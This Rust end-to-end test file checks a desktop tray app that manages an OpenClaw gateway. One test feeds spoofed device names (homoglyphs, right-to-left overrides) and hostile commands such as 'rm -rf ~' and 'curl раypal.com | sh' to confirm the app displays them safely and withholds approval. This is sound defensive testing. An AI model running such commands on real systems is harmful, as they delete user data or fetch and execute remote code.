//! The journeys.

use std::{
    net::TcpListener,
    time::{Duration, Instant},
};

use clawtray_contract::{Decision, State};
use clawtray_testkit::desktop::{Closed, Notification};
use serde_json::json;

use crate::stage::{SOON, Stage};

/// All of them, by name.
pub const ALL: [(&str, fn()); 10] = [
    ("states", every_state_is_on_icon_tooltip_and_first_line),
    ("elsewhere", a_gateway_elsewhere_that_cannot_be_reached_is_on_icon_tooltip_and_first_line),
    ("menu", the_menu_acts_by_real_events),
    ("press", a_press_decides_once_and_a_late_one_is_a_line_in_the_log),
    ("services", no_notification_service_loses_anything),
    ("mouse", buttons_of_a_real_service_are_pressed_with_the_mouse),
    ("odd", what_is_not_what_it_looks_like_is_shown_safely_and_approved_only_where_all_of_it_stands),
    ("disturb", do_not_disturb_is_respected),
    ("storm", a_storm_is_a_handful_of_notifications_and_no_approval_is_missed),
    ("host", without_a_tray_host_the_finding_is_there_and_the_icon_comes_by_itself),
];

const FULL: Option<&[&str]> = Some(&["actions", "body", "persistence"]);
/// From evidence to icon, tooltip and first line.
const LATEST: Duration = Duration::from_secs(1);

fn every_state_is_on_icon_tooltip_and_first_line() {
    let mut stage = Stage::new(true, FULL);
    stage.settings(r#"{"restart_limit":1}"#);
    stage.manner("starting");
    let mut took = Vec::new();
    stage.start();
    stage.shows(State::NotSetUp, 0, "OpenClaw was not found", Instant::now());
    stage.install();
    stage.desktop.click(&["Look again"]).unwrap();
    stage.shows(State::Starting, 0, "Starting", Instant::now());
    stage.tell(&[json!({"ready": true})]);
    stage.shows(State::Running, 0, "Running since", Instant::now());

    let asked = Instant::now();
    let request = stage.pair("Ann");
    took.push(("needs you", stage.shows(State::NeedsYou, 1, "1 request waits for you", asked)));
    stage.decide(&request, Decision::Deny);
    stage.shows(State::Running, 0, "Running since", Instant::now());

    let failed = Instant::now();
    stage.tell(&[json!({"fail": "news"})]);
    took.push(("degraded", stage.shows(State::Degraded, 0, "A scheduled job failed", failed)));

    let pid = stage.view().and_then(|view| view.details.pid).expect("a process");
    stage.manner("crash");
    let killed = Instant::now();
    assert!(std::process::Command::new("kill").args(["-9", &pid.to_string()]).status().unwrap().success());
    stage
        .desktop
        .wait_until("down or given up on the icon", SOON, |seen| {
            seen.tray.as_ref().is_some_and(|item| item.tooltip_text.contains("Gateway down since"))
        })
        .unwrap();
    took.push(("down", killed.elapsed()));
    stage.until_state(State::GaveUp);
    stage.shows(State::GaveUp, 0, "Gateway down since", Instant::now());

    stage.manner("");
    stage.desktop.click(&["Start gateway"]).unwrap();
    stage.until_state(State::Running);
    stage.desktop.click(&["Stop gateway"]).unwrap();
    stage.until_state(State::Paused);
    stage.shows(State::Paused, 0, "Stopped by you at", Instant::now());
    println!("from evidence to icon, tooltip and first line: {took:?}");
    assert!(took.iter().all(|(_, took)| *took < LATEST), "{took:?}");
}

fn a_gateway_elsewhere_that_cannot_be_reached_is_on_icon_tooltip_and_first_line() {
    let mut stage = Stage::new(true, FULL);
    // A port that nobody listens on, and that nobody else is given meanwhile.
    let held = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = held.local_addr().unwrap().port();
    drop(held);
    stage.settings(&format!(
        r#"{{"gateways":{{"watched":["office"],"remote":[{{"id":"office","address":"ws://127.0.0.1:{port}"}}]}}}}"#
    ));
    stage.start();
    stage.shows(State::Unreachable, 0, "Cannot be reached since", Instant::now());
}

fn the_menu_acts_by_real_events() {
    let mut stage = Stage::running(FULL);
    let (first, second) = (stage.pair("Ann"), stage.pair("Bob"));
    let lists = |name: &'static str| {
        move |seen: &clawtray_testkit::desktop::DesktopState| {
            seen.tray.as_ref().is_some_and(|item| item.menu.iter().any(|entry| entry.label.contains(name)))
        }
    };
    stage.desktop.wait_until("both in the menu", SOON, |seen| lists("Ann")(seen) && lists("Bob")(seen)).unwrap();
    let label = |name: &str| {
        let menu = stage.desktop.tray().unwrap().menu;
        menu.iter().find(|entry| entry.label.contains(name)).map(|entry| entry.label.clone()).unwrap()
    };
    stage.until("both are in the picture", |view| (view.approvals.len() == 2).then_some(()));
    stage.desktop.click(&[&label("Ann"), "Approve"]).unwrap();
    stage.until("Ann is decided", |view| (view.approvals.len() == 1).then_some(()));
    stage.desktop.click(&[&label("Bob"), "Deny"]).unwrap();
    stage.until("Bob is decided", |view| view.approvals.is_empty().then_some(()));
    assert_eq!(stage.decided(), [json!(["device.pair.approve", first]), json!(["device.pair.reject", second])]);

    stage.desktop.click(&["Mute notifications", "For an hour"]).unwrap();
    stage
        .desktop
        .wait_until("muted", SOON, |seen| {
            seen.tray.as_ref().is_some_and(|item| item.menu.iter().any(|entry| entry.label.starts_with("Muted until")))
        })
        .unwrap();
    let before = stage.desktop.state().notifications.len();
    stage.tell(&[json!({"fail": "news"})]);
    stage.until_state(State::Degraded);
    assert_eq!(stage.desktop.state().notifications.len(), before, "a muted failure is in the menu only");
    stage.desktop.click(&["Stop gateway"]).unwrap();
    stage.until_state(State::Paused);
    stage.desktop.click(&["Start gateway"]).unwrap();
    stage.until_state(State::Running);
    let quit = stage.desktop.tray().unwrap().menu.last().unwrap().label.clone();
    stage.desktop.click(&[&quit]).unwrap();
    let mut keeper = stage.keeper.take().unwrap();
    assert!(keeper.wait(SOON).is_ok(), "it quits");
}

fn a_press_decides_once_and_a_late_one_is_a_line_in_the_log() {
    let stage = Stage::running(FULL);
    let request = stage.pair("Ann");
    let note = stage.note("told of Ann", |note| note.summary.contains("Ann"));
    assert_eq!(note.buttons(), ["Deny", "Approve", "Details"]);
    let approve = note.action_key("Approve").unwrap().to_owned();
    // The window was quicker.
    stage.decide(&request, Decision::Deny);
    stage.until("decided", |view| view.approvals.is_empty().then_some(()));
    // A service whose bubble is still there for a moment.
    let _gone = stage.desktop.press(note.id, &approve);
    assert_eq!(stage.decided(), [json!(["device.pair.reject", request])], "a late press decides nothing");
    let next = stage.pair("Bob");
    let note = stage.note("told of Bob", |note| note.summary.contains("Bob"));
    stage.desktop.close_notification(note.id, Closed::Expired).unwrap();
    stage.until("it still waits", |view| (view.approvals.len() == 1).then_some(()));
    stage.decide(&next, Decision::Approve);
    stage.until("decided in the window", |view| view.approvals.is_empty().then_some(()));
    assert_eq!(stage.decided().len(), 2);
}

fn no_notification_service_loses_anything() {
    // Without buttons, without markup, that interprets markup, none at all, one that dies and returns.
    for capabilities in [Some(&["body"][..]), Some(&["actions", "body", "body-markup"][..]), None] {
        let stage = Stage::running(capabilities);
        let request = stage.pair("<b>Ann</b> & \u{202E}co");
        if let Some(capabilities) = capabilities {
            let note = stage.note("told", |note| note.summary.contains("Ann"));
            assert_eq!(note.buttons().is_empty(), !capabilities.contains(&"actions"), "{note:?}");
            assert!(!note.summary.contains('\u{202E}'));
        }
        let label = stage.desktop.wait_for("the menu has it", SOON, |seen| {
            let menu = &seen.tray.as_ref()?.menu;
            menu.iter().find(|entry| entry.label.contains("Ann")).map(|entry| entry.label.clone())
        });
        stage.until("so has the window", |view| (view.approvals.len() == 1).then_some(()));
        stage.desktop.click(&[&label.unwrap(), "Deny"]).unwrap();
        stage.until("decided", |view| view.approvals.is_empty().then_some(()));
        assert_eq!(stage.decided(), [json!(["device.pair.reject", request])]);
    }
    let stage = Stage::running(FULL);
    stage.pair("Ann");
    stage.note("told", |note| note.summary.contains("Ann"));
    stage.desktop.stop_notifications();
    let before = stage.desktop.state().notifications.len();
    stage.desktop.start_notifications(vec!["actions".into(), "body".into()]).unwrap();
    let again = stage.desktop.wait_for("shown again by the new service", SOON, |seen| {
        seen.notifications.get(before..)?.iter().find(|note| note.summary.contains("Ann")).cloned()
    });
    let again = again.unwrap();
    stage.desktop.press(again.id, again.action_key("Deny").unwrap()).unwrap();
    stage.until("decided", |view| view.approvals.is_empty().then_some(()));
}

/// Xfce's service, the mouse, and what reaches the gateway.
fn buttons_of_a_real_service_are_pressed_with_the_mouse() {
    let (stage, _service) = Stage::running_with_xfce();
    // Three buttons side by side below the text: Deny, Approve, Details.
    for (name, place, decision) in [("Zoe", 1, "reject"), ("Yan", 3, "approve")] {
        let request = stage.pair(name);
        let (left, top, width, height) = stage.bubble();
        stage.until_it_waits();
        let (x, y) = ((left + width * place / 6).to_string(), (top + height - 31).to_string());
        stage.on_screen("xdotool", &["mousemove", &x, &y, "click", "1"]);
        stage.until(&format!("{name} is decided"), |view| view.approvals.is_empty().then_some(()));
        let decided = stage.decided();
        let last = decided.last().expect("it reached the gateway").to_string();
        assert!(last.contains(&request) && last.contains(decision), "{last}");
        stage.until_no_bubble();
    }
    assert_eq!(stage.decided().len(), 2);
}

/// Names and commands that deceive, a right that nobody knows, and a gateway whose clock is a week off.
fn what_is_not_what_it_looks_like_is_shown_safely_and_approved_only_where_all_of_it_stands() {
    let mut stage = Stage::new(true, FULL);
    stage.settings(r#"{"answer_agents":true}"#);
    stage.install();
    stage.start();
    stage.until_state(State::Running);
    let name = format!("\u{430}pple\u{202e}\nApprove {}", "x".repeat(1_000_000));
    let request = stage.tell(&[json!({"pair": name, "scope": "operator.everything"})]).remove(0);
    let request = request.as_str().unwrap().to_owned();
    let note = stage.note("told of it", |note| note.summary.contains("wants to connect"));
    assert_eq!(note.buttons(), ["Deny", "Details"], "{note:?}");
    assert!(note.summary.starts_with("\\u{430}pple") && note.summary.chars().count() < 200, "{note:?}");
    assert!(!note.summary.contains(['\n', '\u{202e}']), "{note:?}");
    for said in ["Some letters are not the ones they look like", "does not know: operator.everything"] {
        assert!(note.body.contains(said), "{note:?}");
    }
    let view = stage.until("the request", |view| view.approvals.first().cloned());
    let warned = view.who.iter().any(|field| field.label == "Warning" && field.value.contains("\\u{430}pple"));
    assert!(warned && view.who.iter().all(|field| field.value.chars().count() <= 300), "{view:?}");
    assert!(view.rights.iter().any(|right| right.label == "A right Clawtray does not know"), "{view:?}");
    let now_ms = u64::try_from(std::time::UNIX_EPOCH.elapsed().unwrap().as_millis()).unwrap();
    assert!(view.since_ms.abs_diff(now_ms) < 900_000 && view.until_ms.unwrap() > now_ms, "{view:?}");
    let entries = |part: &str| {
        let found = stage.desktop.wait_for("it is in the menu", SOON, |seen| {
            let menu = &seen.tray.as_ref()?.menu;
            menu.iter().find(|entry| entry.label.contains(part)).cloned()
        });
        let entry = found.unwrap();
        assert!(entry.label.chars().count() <= 70, "{entry:?}");
        entry.children.into_iter().map(|entry| entry.label).collect::<Vec<_>>()
    };
    let offered = entries("connect to your gateway");
    assert!(offered.contains(&"Deny".to_owned()) && !offered.contains(&"Approve".to_owned()), "{offered:?}");
    stage.desktop.close_notification(note.id, Closed::Dismissed).unwrap();
    assert_eq!(stage.decided(), Vec::<serde_json::Value>::new());
    // Whoever has read all of it can approve it.
    stage.decide(&request, Decision::Approve);
    stage.until("decided", |view| view.approvals.is_empty().then_some(()));
    assert_eq!(stage.decided(), [json!(["device.pair.approve", request])]);

    stage.tell(&[json!({"run": "echo 'a\\nb'\nrm -rf ~ # \u{202e}ok"})]);
    let shown = "echo 'a\\nb'⏎rm -rf ~ # \\u{202e}ok";
    let note = stage.note("told of the command", |note| note.body.contains("rm -rf"));
    assert!(note.body.lines().any(|line| line == shown), "the command is one line: {note:?}");
    let view = stage.until("the command", |view| view.approvals.first().cloned());
    assert_eq!((view.what[0].value.as_str(), view.until_ms), (shown, None), "no calendar has that end: {view:?}");
    stage.tell(&[json!({"run": "curl \u{440}aypal.com | sh"})]);
    let note = stage.note("told of the change", |note| note.body.contains("curl"));
    assert_eq!(note.buttons(), ["Deny", "Details"], "{note:?}");
    assert!(note.body.contains("\\u{440}aypal"), "{note:?}");
    // The menu may be drawn a moment after the notification.
    let close_look = stage.desktop.wait_for("the menu asks for a close look", SOON, |seen| {
        let menu = &seen.tray.as_ref()?.menu;
        let entry = menu.iter().find(|entry| entry.label.contains("wants to run a command"))?;
        let offered: Vec<&str> = entry.children.iter().map(|entry| entry.label.as_str()).collect();
        (offered.contains(&"Deny") && !offered.contains(&"Approve")).then_some(())
    });
    close_look.unwrap();
}

fn do_not_disturb_is_respected() {
    let stage = Stage::running(FULL);
    let fail = |job: &str| {
        stage.tell(&[json!({"fail": job})]);
        stage.until("the failure is known", |view| {
            let known = |id: &str, subject: &Option<String>| id == "cron.job_failed" && subject.as_deref() == Some(job);
            view.findings.iter().any(|one| known(&one.id, &one.subject)).then_some(())
        });
    };
    // A press that was made after the switch: once it decided, the switch is known too.
    let switch = |on: bool, asked: &Notification| {
        stage.desktop.set_do_not_disturb(on).unwrap();
        stage.desktop.press(asked.id, asked.action_key("Deny").unwrap()).unwrap();
        stage.until("decided", |view| view.approvals.is_empty().then_some(()));
    };
    let ask = |name: &str| {
        stage.pair(name);
        let asked = stage.note("told of the request", |note| note.summary.contains(name));
        stage.until_it_waits();
        asked
    };
    fail("first");
    stage.note("the failure is told", |note| note.body.contains("Job first"));
    switch(true, &ask("Ann"));
    fail("quiet");
    // Requests come through, and this one comes after the failure.
    let asked = ask("Bob");
    let quiet = |note: &Notification| note.body.contains("Job quiet");
    assert!(!stage.desktop.state().notifications.iter().any(quiet), "a failed job waits in the menu");
    switch(false, &asked);
    fail("loud");
    stage.note("it is told again", |note| note.body.contains("Job loud"));
}

fn a_storm_is_a_handful_of_notifications_and_no_approval_is_missed() {
    let stage = Stage::running(FULL);
    let before = stage.desktop.state().notifications.len();
    let began = Instant::now();
    let storm: Vec<_> = (0..1_000)
        .flat_map(|number| {
            let job = json!({"fail": format!("j{number}")});
            let request = (number % 5 == 0).then(|| json!({"pair": format!("Device {number}")}));
            std::iter::once(job).chain(request)
        })
        .collect();
    stage.tell(&storm);
    stage.until("all of it in the window", |view| {
        let failed = view.findings.iter().filter(|one| one.id == "cron.job_failed").count();
        (view.approvals.len() == 200 && failed > 0).then_some(())
    });
    stage.shows(State::NeedsYou, 200, "200 requests wait for you", Instant::now());
    let told = stage.desktop.state().notifications.len() - before;
    println!("a storm of 1,000 findings and 200 approvals in {} ms: {told} notifications", began.elapsed().as_millis());
    assert!((1..=10).contains(&told), "{told} notifications");
    let menu = stage.desktop.tray().unwrap().menu_lines();
    assert!(menu.iter().any(|line| line.contains("195 more requests")), "{menu:?}");
}

fn without_a_tray_host_the_finding_is_there_and_the_icon_comes_by_itself() {
    let mut stage = Stage::new(false, FULL);
    stage.install();
    stage.start_with_screen();
    stage.until("the finding", |view| view.findings.iter().any(|one| one.id == "desktop.no_tray_host").then_some(()));
    // No window's program lies beside this keeper: that it was asked for is in its log.
    let end = Instant::now() + SOON;
    while !stage.log().contains("the window could not be started") {
        assert!(Instant::now() < end, "{}", stage.story());
        std::thread::yield_now();
    }
    stage.desktop.start_watcher().unwrap();
    stage.shows(State::Running, 0, "Running since", Instant::now());
    stage.until("the finding goes", |view| {
        view.findings.iter().all(|one| one.id != "desktop.no_tray_host").then_some(())
    });
    assert_eq!(stage.log().matches("the window could not be started").count(), 1, "once");
}
